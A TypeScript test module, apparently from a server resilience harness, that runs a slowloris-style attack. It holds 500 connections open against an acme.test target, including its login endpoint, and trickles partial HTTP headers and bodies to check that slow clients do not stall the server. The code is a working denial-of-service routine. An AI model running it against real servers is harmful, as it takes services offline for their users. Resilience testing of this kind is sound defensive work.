import { setTimeout } from 'node:timers/promises';
import type { Attack } from '../attack';

const CONNECTIONS = 500;

export const attack: Attack = {
  name: 'slow-senders',
  promises: 'Heads and bodies that trickle hold nobody up.',
  async run(target) {
    const body =
      'POST /api/auth/login HTTP/1.1\r\nHost: acme.test\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n{';
    const sockets = Array.from({ length: CONNECTIONS }, (_, i) => {
      const socket = target.connect();
      socket.write(i % 2 === 0 ? 'GET /healthz HTTP/1.1\r\nHost: acme.test\r\nX-A: ' : body);
      return socket;
    });
    while (target.goesOn()) {
      for (const socket of sockets) if (socket.writable) socket.write('a');
      await setTimeout(200);
    }
  },
};
